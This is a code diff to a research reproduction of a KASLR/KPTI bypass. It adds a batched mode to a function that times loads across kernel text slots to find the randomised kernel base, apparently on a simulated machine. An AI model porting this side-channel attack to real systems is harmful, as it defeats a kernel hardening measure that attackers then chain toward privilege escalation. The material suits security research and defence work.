@@ -18,7 +18,7 @@ from repro.os.linux import layout
 
 
 def break_kaslr_kpti(machine, trampoline_offset=None, rounds=None,
-                     calibration=None):
+                     calibration=None, batched=False):
     """Locate the trampoline in the user table and subtract its offset."""
     core = machine.core
     if rounds is None:
@@ -32,13 +32,20 @@ def break_kaslr_kpti(machine, trampoline_offset=None, rounds=None,
     total_start = core.clock.cycles
     core.run_setup()
     if calibration is None:
-        calibration = calibrate_store_threshold(machine)
+        calibration = calibrate_store_threshold(machine, batched=batched)
 
     probe_start = core.clock.cycles
-    timings = []
-    for slot in range(layout.KERNEL_TEXT_SLOTS):
-        va = layout.kernel_base_of_slot(slot)
-        timings.append(double_probe_load(core, va, rounds))
+    if batched:
+        vas = [
+            layout.kernel_base_of_slot(slot)
+            for slot in range(layout.KERNEL_TEXT_SLOTS)
+        ]
+        timings = list(core.probe_sweep(vas, rounds=rounds, op="load"))
+    else:
+        timings = []
+        for slot in range(layout.KERNEL_TEXT_SLOTS):
+            va = layout.kernel_base_of_slot(slot)
+            timings.append(double_probe_load(core, va, rounds))
     probing_ms = core.clock.cycles_to_ms(
         core.clock.elapsed_since(probe_start)
     )
